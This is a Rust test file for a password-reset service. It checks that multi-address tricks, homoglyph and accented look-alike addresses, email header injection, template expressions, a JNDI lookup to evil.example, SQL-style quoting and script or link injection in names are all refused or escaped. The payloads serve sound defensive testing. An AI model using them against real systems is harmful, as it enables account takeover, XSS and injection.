//! Attacks of docs/security.md with addresses and names. The number in a test's name is the
//! attack's row.

use std::collections::BTreeSet;
use tests::{
    app::{ADA, GOOD_PASSWORD, NOTICE_SUBJECT, TestApp, UNKNOWN_TOKEN, WEAK_PASSWORD, user},
    http::{CHANGE_PASSWORD, FORGOT_PASSWORD, FORM, JSON, MULTIPART, form, multipart, send},
};

use aws::tables::User;
use http::Method;
use serde_json::json;

/// Panics if the mailer sends an email to anybody.
async fn assert_no_email(app: &TestApp) {
    app.wait_for_mailer().await;
    assert!(app.emails().is_empty());
}

#[tokio::test]
async fn attack_01_several_addresses_in_one_request_are_refused() {
    let app = TestApp::with_ada().await;
    app.add(&user(EVE)).await;
    app.dynamodb.clear_calls();
    let twice = [("email", ADA), ("email", EVE)];
    for (content_type, body) in [
        (JSON, json!({ "email": [ADA, EVE] }).to_string()),
        (JSON, json!({ "email": [ADA] }).to_string()),
        (JSON, json!({ "email": { "0": ADA, "1": EVE } }).to_string()),
        (
            JSON,
            format!("{{\"email\": \"{ADA}\", \"email\": \"{EVE}\"}}"),
        ),
        (
            JSON,
            format!("{{\"email\": \"{ADA}\", \"\\u0065mail\": \"{EVE}\"}}"),
        ),
        (FORM, form(&twice)),
        (FORM, form(&twice).replacen("email", "%65mail", 1)),
        (MULTIPART, multipart(&twice)),
    ] {
        let response = app.post_as(FORGOT_PASSWORD, content_type, body).await;
        app.assert_refused(&response, 400, "invalid_params");
    }
    for separator in [",", ", ", ";", " ", "%00", "\n", "|"] {
        let response = app.request_reset(&format!("{ADA}{separator}{EVE}")).await;
        app.assert_refused(&response, 400, "invalid_params");
    }
    assert_no_email(&app).await;
}

#[tokio::test]
async fn attack_02_a_look_alike_of_an_address_is_sent_nothing() {
    let app = TestApp::with_ada().await;
    for email in ["mike@example.com", "fiona@example.com", "mike@github.com"] {
        app.add(&user(email)).await;
    }
    let mut responses = BTreeSet::new();
    for typed in [
        "mıke@example.com",
        "mi\u{212a}e@example.com",
        "ﬁona@example.com",
        "ｍｉｋｅ@example.com",
        "mike@gıthub.com",
        "mike@GİTHUB.com",
        "mike@ex\u{430}mple.com",
    ] {
        // An address that the syntax accepts belongs to somebody else.
        responses.insert(app.request_reset(typed).await.status_and_code());
    }
    assert_no_email(&app).await;
    let (worked, refused) = (String::new(), "invalid_params".to_owned());
    assert_eq!(responses, BTreeSet::from([(200, worked), (400, refused)]));

    // Only case is ignored. Email goes to the address as registered.
    app.add(&user("Grace.Hopper@Example.com")).await;
    app.request_reset("GRACE.HOPPER@EXAMPLE.COM")
        .await
        .assert_worked();
    let received = app.wait_for_email("Grace.Hopper@Example.com", 1).await;
    assert!(!received.text.contains("GRACE") && !received.html.contains("GRACE"));
}

#[tokio::test]
async fn attack_03_an_accented_twin_of_an_address_is_sent_nothing() {
    let app = TestApp::with_ada().await;
    for typed in [
        "adá@example.com",
        "ada\u{301}@example.com",
        "ada@example.c\u{f3}m",
        "ada@\u{e9}xample.com",
        "ada@e\u{301}xample.com",
    ] {
        app.request_reset(typed).await;
    }
    assert_no_email(&app).await;
}

#[tokio::test]
async fn attack_19_line_breaks_and_quotes_in_an_address_are_refused() {
    let app = TestApp::with_ada().await;
    for typed in [
        "ada@example.com\r\nBcc: eve@example.com",
        "ada@example.com\nBcc: eve@example.com",
        "ada\r\n@example.com",
        "ada@example.com\n.\n",
        "ada@example\r.com",
        "ada@example.com\u{2028}eve@example.com",
        "\"ada\"@example.com",
        "\"ada\r\nBcc: eve@example.com\"@example.com",
        "\"eve@example.com> x\"@example.com",
        "<ada@example.com>",
        "Ada <ada@example.com>",
        "ada(comment)@example.com",
        "ada@[192.0.2.1]",
        "ada\0@example.com",
        "ada@example.com\\",
    ] {
        app.secrets.add(typed);
        let response = app.post(FORGOT_PASSWORD, &json!({ "email": typed })).await;
        app.assert_refused(&response, 400, "invalid_params");
        let body = json!({
            "email": typed, "forgot_password_hash": UNKNOWN_TOKEN, "new_password": GOOD_PASSWORD,
        });
        let response = app.post(CHANGE_PASSWORD, &body).await;
        app.assert_refused(&response, 400, "invalid_params");
    }
    assert_no_email(&app).await;
}

#[tokio::test]
async fn attack_20_expressions_in_an_address_have_no_effect() {
    let app = TestApp::with_ada().await;
    for typed in [
        "ada@example.com#{7*191}",
        "#{7*191}:ada@example.com",
        "ada:king@example.com",
        "mailto:ada@example.com",
        "ada@example.com?cc=eve@example.com",
        "ada@${jndi:ldap://evil.example}",
    ] {
        let response = app.request_reset(typed).await;
        app.assert_refused(&response, 400, "invalid_params");
    }
    // These are valid addresses. They are plain data in DynamoDB, in the link and in the email.
    for address in [
        "#{7*191}@example.com",
        "{{7*191}}@example.com",
        "${7*191}@example.com",
        "email=a&token=x@example.com",
        "'or'1'='1@example.com",
    ] {
        app.add(&user(address)).await;
        let link = app.request_link(address).await;
        assert_eq!(link.email, address);
        let email = app.wait_for_email(address, 1).await;
        assert!(!email.text.contains("1337") && !email.html.contains("1337"));
        app.confirm_with_email(address, &link.token, GOOD_PASSWORD)
            .await
            .assert_worked();
    }
    assert!(app.emails_to(ADA).is_empty());
    app.assert_ada_is_unchanged().await;
}

const EVE: &str = "eve@example.com";

/// Hostile names, and the texts that must not occur because of each.
const HOSTILE_NAMES: [(&str, &[&str]); 8] = [
    (
        "<script>alert(1)</script>",
        &["<script>alert", "alert(1)</script"],
    ),
    (
        "{{1337*1337}} ${1337*1337} <%= 1337*1337 %>",
        &["1787569", "<%"],
    ),
    ("Ada\r\nBcc: eve@example.com\r\n\r\nHi", &["\nBcc", "\r"]),
    (
        "http://evil.example/ www.evil.example now",
        &["//evil", "evil.example"],
    ),
    ("\u{202e}evil\u{200b}.example", &["\u{202e}", "\u{200b}"]),
    (
        "</p><a href=\"https://evil.example\">Click</a>",
        &["evil.example", "<a href=\"https://evil", "Click</a>"],
    ),
    (
        "{ $app } { reset-subject }",
        &["{ Example", "Set a new password for Example }"],
    ),
    (
        "x\" onmouseover=\"alert(1)",
        &["x\" onmouseover=\"alert(1)\""],
    ),
];

#[tokio::test]
async fn attack_18_a_hostile_name_is_escaped_in_emails_and_absent_from_pages() {
    for (name, harmful) in HOSTILE_NAMES {
        let named = User {
            name: Some(name.to_owned()),
            ..user(ADA)
        };
        let app = TestApp::builder()
            .with_cheap_hashes()
            .user(named)
            .start()
            .await;
        let link = app.request_link(ADA).await;
        // A refused and an accepted password, each with a page as the response.
        for password in [WEAK_PASSWORD, GOOD_PASSWORD] {
            let fields = [
                ("email", ADA),
                ("forgot_password_hash", &link.token),
                ("new_password", password),
            ];
            let headers = [("content-type", FORM), ("accept", "text/html")];
            let page = send(
                Method::POST,
                &app.url(CHANGE_PASSWORD),
                &headers,
                form(&fields),
            )
            .await;
            let page = String::from_utf8_lossy(&page.body).into_owned();
            assert!(page.contains("<html") && !page.contains(name), "{page}");
        }
        app.wait_for_email(ADA, 2).await;
        for email in app.emails() {
            for harmful in harmful {
                assert!(!email.html.contains(harmful), "{harmful} in {}", email.html);
                assert!(!email.text.contains(harmful), "{harmful} in {}", email.text);
            }
            let subjects = ["Set a new password for Example", NOTICE_SUBJECT];
            assert!(
                subjects.contains(&email.subject.as_str()),
                "{}",
                email.subject
            );
            assert_eq!(email.to, [ADA]);
            assert_eq!(email.headers.keys().collect::<Vec<_>>(), ["Auto-Submitted"]);
        }
    }
}
